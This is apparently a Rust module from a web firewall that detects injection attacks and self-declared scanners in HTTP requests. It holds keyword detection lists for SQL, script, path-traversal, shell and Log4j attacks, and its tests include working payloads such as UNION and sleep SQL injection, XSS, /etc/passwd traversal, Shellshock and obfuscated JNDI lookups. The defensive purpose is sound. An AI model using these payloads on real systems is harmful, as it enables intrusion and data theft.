//! What a request shows by itself: inputs that are code for whoever passes them on, and clients that say that they are scanners.
//!
//! Classes and their words follow what the OWASP Core Rule Set looks for (rules 930 to 944), of each the few that are hardly ever
//! written by honest programs. Text is looked at as it would arrive behind a careless server: decoded from percent signs twice,
//! in lower case, comments of SQL as blanks and, once more, as nothing. Values of a query are also read as those of forms are
//! ([`sql`]): by what follows where a value can end.

use crate::dataplane::inspect::sql;
use aho_corasick::AhoCorasick;
use serde::Serialize;
use std::sync::LazyLock;

/// What an input is meant for.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug, Serialize)]
pub enum Class {
    /// A data base (CWE-89).
    Sql,
    /// Another user's browser (CWE-79).
    Script,
    /// Files beyond the server's own (CWE-22, CWE-98).
    Path,
    /// A shell (CWE-78).
    Command,
    /// An interpreter of templates or expressions, Log4j's among them (CWE-94, CWE-917).
    Expression,
}

impl Class {
    /// Every class.
    pub const ALL: [Class; 5] = [Class::Sql, Class::Script, Class::Path, Class::Command, Class::Expression];

    /// In words for people.
    pub fn words(self) -> &'static str {
        match self {
            Class::Sql => "SQL",
            Class::Script => "script",
            Class::Path => "paths of files",
            Class::Command => "shell commands",
            Class::Expression => "expressions",
        }
    }
}

/// Words that are enough to say what an input is for; those with `true` are written for nothing else.
const WORDS: &[(Class, bool, &str)] = &[
    (Class::Sql, true, "information_schema"),
    (Class::Sql, true, "waitfor delay"),
    (Class::Sql, true, "pg_sleep("),
    (Class::Sql, false, "benchmark("),
    (Class::Sql, true, "extractvalue("),
    (Class::Sql, true, "updatexml("),
    (Class::Sql, true, "xp_cmdshell"),
    (Class::Sql, true, "dbms_pipe."),
    (Class::Sql, true, "randomblob("),
    (Class::Sql, true, "select case when"),
    (Class::Sql, true, "(select (case"),
    (Class::Sql, true, "cast((select"),
    (Class::Sql, true, "convert(int,"),
    (Class::Sql, true, "procedure analyse("),
    (Class::Sql, true, "; drop table"),
    (Class::Sql, false, ";select "),
    (Class::Sql, false, "; select "),
    (Class::Sql, true, "(select sleep("),
    (Class::Sql, true, "and sleep("),
    (Class::Sql, true, "or sleep("),
    (Class::Script, true, "<script"),
    (Class::Script, false, "</script"),
    (Class::Script, false, " onerror="),
    (Class::Script, false, " onload="),
    (Class::Script, true, "<svg/"),
    (Class::Script, true, "javascript:alert"),
    (Class::Script, true, "=javascript:"),
    (Class::Path, false, "../../"),
    (Class::Path, false, "..\\..\\"),
    (Class::Path, false, "..;/"),
    (Class::Path, true, "/etc/passwd"),
    (Class::Path, true, "/etc/shadow"),
    (Class::Path, false, "/etc/services"),
    (Class::Path, true, "/proc/self/"),
    (Class::Path, false, "\\win.ini"),
    (Class::Path, false, "/win.ini"),
    (Class::Path, false, "boot.ini"),
    (Class::Path, true, "php://"),
    (Class::Path, true, "expect://"),
    (Class::Path, false, "=file:///"),
    (Class::Command, true, "() {"),
    (Class::Command, false, "/bin/sh"),
    (Class::Command, false, "/bin/bash"),
    (Class::Command, false, "cmd.exe"),
    (Class::Command, false, ";cat "),
    (Class::Command, false, "|cat "),
    (Class::Command, false, ";wget "),
    (Class::Command, false, ";curl "),
    (Class::Command, true, "&&wget"),
    (Class::Command, true, ";env;"),
    (Class::Expression, true, "${jndi:"),
    (Class::Expression, false, "<%="),
    (Class::Expression, true, "{{7*"),
    (Class::Expression, true, "${7*"),
    (Class::Expression, true, "#{7*"),
    (Class::Expression, true, "__import__("),
    (Class::Expression, false, "java.lang.runtime"),
    (Class::Expression, true, ";base64,pd9wa"),
];

/// All of them in one pass. It fails only of more words than memory has numbers for.
static FINDER: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| AhoCorasick::new(WORDS.iter().map(|(.., word)| word)).ok());

/// Clients that say what they are (their own default `User-Agent`), and how people call them.
const SCANNERS: &[(&str, &str)] = &[
    ("sqlmap", "sqlmap"),
    ("nikto", "Nikto"),
    ("wapiti", "Wapiti"),
    ("whatweb", "WhatWeb"),
    ("nmap scripting engine", "Nmap"),
    ("gobuster", "Gobuster"),
    ("fuzz faster u fool", "ffuf"),
    ("wfuzz", "Wfuzz"),
    ("dirbuster", "DirBuster"),
    ("feroxbuster", "feroxbuster"),
    ("nuclei", "Nuclei"),
    ("arachni", "Arachni"),
    ("w3af", "w3af"),
    ("acunetix", "Acunetix"),
    ("netsparker", "Netsparker"),
    ("openvas", "OpenVAS"),
    ("nessus", "Nessus"),
    ("qualys", "Qualys"),
    ("masscan", "masscan"),
    ("zgrab", "ZGrab"),
    ("jorgee", "Jorgee"),
    ("hydra", "Hydra"),
    ("commix", "commix"),
    ("joomscan", "JoomScan"),
    ("wpscan", "WPScan"),
    ("skipfish", "skipfish"),
    ("xsstrike", "XSStrike"),
    ("(dirb)", "DIRB"),
];

/// The scanner that a client says it is.
pub fn scanner(agent: &[u8]) -> Option<&'static str> {
    let agent = String::from_utf8_lossy(agent).to_ascii_lowercase();
    SCANNERS.iter().find(|(word, _)| agent.contains(word)).map(|(_, name)| *name)
}

/// What a target (path and query) or a header is meant for, where it is meant for anything but to be looked up, and whether its
/// words leave no doubt.
pub fn class(text: &[u8]) -> Option<(Class, bool)> {
    let query = text.iter().position(|byte| *byte == b'?').and_then(|at| text.get(at + 1..));
    let sql = query.and_then(sql::in_form).map(|found| (Class::Sql, found.is_sure));
    let decoded = decoded_twice(text);
    // A comment may also be taken out before a data base sees it.
    let joined = || decoded.contains("/*").then(|| read(plain(&decoded, false))).flatten();
    let found = [sql, read(plain(&decoded, true)), joined()].into_iter().flatten();
    found.reduce(|best, one| if best.1 || !one.1 { best } else { one })
}

/// What a text says as it is.
fn read(text: String) -> Option<(Class, bool)> {
    let text = unfolded(text);
    let finder = FINDER.as_ref()?;
    let found = finder.find_overlapping_iter(&text).filter_map(|found| WORDS.get(found.pattern().as_usize()));
    let (sure, unsure): (Vec<_>, Vec<_>) = found.partition(|(_, sure, _)| *sure);
    let found = sure.first().or(unsure.first()).map(|(class, sure, _)| (*class, *sure));
    match found {
        Some((_, true)) => found,
        _ if is_union(&text) => Some((Class::Sql, true)),
        _ => found.or_else(|| is_sql(&text).then_some((Class::Sql, false))),
    }
}

/// What a user name is meant for: no account is named with a lookup, and of one the colon cuts off what follows.
pub fn name_class(name: &[u8]) -> Option<(Class, bool)> {
    let is_lookup = name.windows(2).any(|pair| pair == b"${");
    is_lookup.then_some((Class::Expression, true)).or_else(|| class(name))
}

/// Lookups of Log4j (2.x manual, Lookups) that stand for a text, as that text: `${lower:J}`, `${env:NONE:-j}`, `${::-j}`; innermost
/// first, a bounded number of them.
fn unfolded(text: String) -> String {
    const MOST: usize = 64;
    let mut text = text;
    for _ in 0..MOST {
        let innermost = text.match_indices("${").find_map(|(at, _)| {
            let inside = text.get(at + 2..)?;
            let end = inside.find('}')?;
            let inside = inside.get(..end)?;
            if inside.contains("${") {
                return None;
            }
            let default = inside.rsplit_once(":-").map(|(_, value)| value);
            let case = inside.strip_prefix("lower:").or_else(|| inside.strip_prefix("upper:"));
            default.or(case).map(|value| (at..at + 2 + end + 1, value.to_owned()))
        });
        let Some((place, value)) = innermost else { break };
        text.replace_range(place, &value);
    }
    text
}

fn is_union(text: &str) -> bool {
    text.split_once("union ").is_some_and(|(before, rest)| {
        let rest = rest.trim_start().trim_start_matches("all ").trim_start_matches("distinct ");
        // Behind a value that was ended, or in front of a list of columns: no search for a station.
        let follows = rest.strip_prefix("select").is_some_and(|rest| rest.contains(',') || rest.contains("null"));
        follows || rest.starts_with("select") && before.trim_end().ends_with(['\'', '"', ')', '-'])
    })
}

/// SQL that is told by two of its words.
fn is_sql(text: &str) -> bool {
    let after = |word: &str| text.split_once(word).map(|(_, rest)| rest);
    // A quote that ends a value, then a condition.
    let is_condition = ["'", "\""].iter().any(|quote| {
        ["or ", "and ", "or(", "and(", "|| "].iter().any(|word| {
            let with = |blank: &str| after(&format!("{quote}{blank}{word}"));
            with(" ").or_else(|| with("")).is_some_and(|rest| {
                rest.chars().take(60).any(|one| matches!(one, '=' | '<' | '>')) || rest.trim_start().starts_with("not ")
            })
        })
    });
    // A number, a condition of numbers: `1 and 5123=5123`, with what remains of the statement as a comment or not.
    let is_number = ["and ", "or "].iter().any(|word| {
        text.match_indices(word).any(|(at, _)| {
            let before = text.get(..at).unwrap_or_default().trim_end();
            let rest = text.get(at + word.len()..).unwrap_or_default();
            let (left, right) = rest.split_once('=').unwrap_or_default();
            let digits =
                |part: &str| !part.is_empty() && part.len() <= 8 && part.bytes().all(|byte| byte.is_ascii_digit());
            let right: String = right.chars().take_while(char::is_ascii_digit).collect();
            before.ends_with(|last: char| last.is_ascii_digit() || matches!(last, '\'' | '"' | ')'))
                && digits(left.trim().trim_start_matches('('))
                && digits(&right)
        })
    });
    let is_order = after(" order by ").is_some_and(|rest| {
        let number: String = rest.chars().take_while(char::is_ascii_digit).collect();
        !number.is_empty() && rest.get(number.len()..).is_some_and(|rest| rest.trim_start().starts_with(['-', '#']))
    });
    is_condition || is_number || is_order
}

/// Decoded twice, in lower case.
fn decoded_twice(text: &[u8]) -> String {
    let once = decoded(text);
    let twice = if once.contains(&b'%') { decoded(&once) } else { once };
    String::from_utf8_lossy(&twice).to_lowercase()
}

/// With one blank for each run of them, and SQL's comments as blanks or as nothing; what MySQL reads of one (`/*!50000union*/`)
/// stays.
fn plain(text: &str, are_blanks: bool) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut is_open = false;
    while let Some(first) = rest.chars().next() {
        let (behind, is_comment) = match () {
            () if rest.starts_with("/*!") => {
                is_open = true;
                (rest.get(3..).unwrap_or_default().trim_start_matches(|one: char| one.is_ascii_digit()), true)
            }
            () if is_open && rest.starts_with("*/") => {
                is_open = false;
                (rest.get(2..).unwrap_or_default(), true)
            }
            () => match rest.strip_prefix("/*").and_then(|inside| inside.split_once("*/")) {
                Some((_, behind)) => (behind, true),
                None => (rest.get(first.len_utf8()..).unwrap_or_default(), false),
            },
        };
        rest = behind;
        let is_blank = if is_comment { are_blanks } else { first.is_whitespace() || first == '\0' };
        match (is_blank, out.ends_with(' ')) {
            (true, false) => out.push(' '),
            (true, true) => {}
            (false, _) if is_comment => {}
            (false, _) => out.push(first),
        }
    }
    out
}

/// `%41` and, of a query, `+`.
fn decoded(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut at = 0;
    let digit = |byte: Option<&u8>| byte.and_then(|byte| char::from(*byte).to_digit(16));
    while let Some(byte) = text.get(at) {
        match (byte, digit(text.get(at + 1)), digit(text.get(at + 2))) {
            (b'%', Some(high), Some(low)) => {
                out.push((high * 16 + low) as u8); // below 256
                at += 3;
            }
            (b'+', ..) => {
                out.push(b' ');
                at += 1;
            }
            _ => {
                out.push(*byte);
                at += 1;
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn inputs_that_are_code_are_told_by_what_they_are_for() {
        for (text, wanted) in [
            ("/item?id=1%27%20OR%20%271%27%3D%271", Some(Class::Sql)),
            ("/item?id=1+UNION+ALL+SELECT+NULL%2CNULL--+-", Some(Class::Sql)),
            ("/item?id=1/**/uNiOn/**/SeLeCt/**/1,2", Some(Class::Sql)),
            ("/item?id=1%2527%2520or%25201%253d1", Some(Class::Sql)),
            ("/item?id=1%20UN/**/ION%20SE/**/LECT%201,2", Some(Class::Sql)),
            ("/item?id=1%20/*!50000union*/%20/*!50000select*/%201", Some(Class::Sql)),
            ("/item?id=1%09%55nion%0aseLEct+user()", Some(Class::Sql)),
            ("/item?id=(select(0)from(select(sleep(5)))v)", Some(Class::Sql)),
            ("/item?name=admin'--+", Some(Class::Sql)),
            ("/item?id=1%20AND%205123=5123", Some(Class::Sql)),
            ("/item?id=1)%20AND%20(2341=2341", Some(Class::Sql)),
            ("/item?id=1%20ORDER%20BY%2010--%20-", Some(Class::Sql)),
            ("/item?id=1;SELECT%20PG_SLEEP(5)--", Some(Class::Sql)),
            ("/q?t=%3Cscript%3Ealert(1)%3C/script%3E", Some(Class::Script)),
            ("/q?t=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", Some(Class::Script)),
            ("/page?file=..%2F..%2F..%2Fetc%2Fpasswd", Some(Class::Path)),
            ("/../../../../windows/win.ini", Some(Class::Path)),
            ("/page?file=php://filter/convert.base64-encode/resource=index", Some(Class::Path)),
            ("/cgi-bin/x?a=;cat%20/var/log", Some(Class::Command)),
            ("() { :; }; echo", Some(Class::Command)),
            ("${jndi:ldap://203.0.113.1/a}", Some(Class::Expression)),
            ("/hello?name={{7*7}}", Some(Class::Expression)),
            (
                "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:l}d${lower:a}p://203.0.113.1/a}",
                Some(Class::Expression),
            ),
            ("/?q=%24%7B%24%7Blower%3A%24%7Blower%3Ajndi%7D%7D%3Aldap%3A%2F%2Fx%2Fa%7D", Some(Class::Expression)),
            ("${j${env:NONE:-}ndi:ldap://203.0.113.1/a}", Some(Class::Expression)),
            // What honest people and programs ask for.
            ("/", None),
            ("/search?q=O%27Reilly+%26+Associates", None),
            ("/search?q=rock+and+roll+or+jazz", None),
            ("/search?q=union+station+select+hotels", None),
            ("/search?q=%22exact+phrase%22+or+%22another%22", None),
            ("/login?next=https%3A%2F%2Fexample.org%2Fa%2Fb", None),
            ("/static/../app.js", None),
            ("/recaptcha/api.js?onload=ready&render=explicit", None),
            ("/api/items?fields=name|id", None),
            ("/api?filter=(price%3E10)%20and%20(stock%3E0)", None),
            ("/items(1)?$filter=id%20eq%205&$orderby=name", None),
            ("/a;jsessionid=12AB?x=1;y=2", None),
            ("/search?q=how+do+I+select+the+first+row+from+a+table", None),
            ("/*/x?accept=text/*&also=image/*", None),
            ("/search?q=name+eq+'a'+or+name+eq+'b'", None),
            ("/report?from=2024-01-01&to=2024-12-31&order%20by=1", None),
            ("/%E4%BD%A0%E5%A5%BD?q=100%25", None),
            ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)", None),
        ] {
            assert_eq!(class(text.as_bytes()).map(|(class, _)| class), wanted, "{text}");
        }
    }

    #[test]
    fn some_words_leave_no_doubt() {
        for (text, wanted) in [
            ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.1/a", true),
            ("/sqli/?id=%25%27+or+0%3D0+union+select+null%2C+version%28%29", true),
            ("/fi/?page=../../../../../../etc/passwd", true),
            ("/q?name=O' or 'a'='a", false),
            ("/static/../../app.js", false),
        ] {
            assert_eq!(class(text.as_bytes()).map(|(_, sure)| sure), Some(wanted), "{text}");
        }
        assert_eq!(name_class(b"${${lower"), Some((Class::Expression, true)));
        assert_eq!(name_class(b"alice"), None);
    }

    #[test]
    fn scanners_say_who_they_are() {
        for (agent, wanted) in [
            ("sqlmap/1.7.2#stable (https://sqlmap.org)", Some("sqlmap")),
            ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", Some("Nmap")),
            ("Fuzz Faster U Fool v1.5.0", Some("ffuf")),
            ("WhatWeb/0.5.5", Some("WhatWeb")),
            ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", None),
            ("curl/7.88.1", None),
            ("", None),
        ] {
            assert_eq!(scanner(agent.as_bytes()), wanted, "{agent}");
        }
    }

    proptest! {
        #[test]
        fn any_bytes_are_looked_at(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
            class(&bytes);
            scanner(&bytes);
        }

        /// How it is written makes no difference.
        #[test]
        fn every_way_of_writing_is_the_same(which in 0..WORDS.len(), mask in any::<u64>(), upper in any::<u64>()) {
            let (.., word) = WORDS[which];
            let mut text = b"/page?x=".to_vec();
            for (at, byte) in word.bytes().enumerate() {
                let byte = if upper >> (at % 64) & 1 == 1 { byte.to_ascii_uppercase() } else { byte };
                if mask >> (at % 64) & 1 == 1 || b" +%".contains(&byte) {
                    text.extend(format!("%{byte:02X}").bytes());
                } else {
                    text.push(byte);
                }
            }
            prop_assert!(class(&text).is_some(), "{}", String::from_utf8_lossy(&text));
        }
    }
}
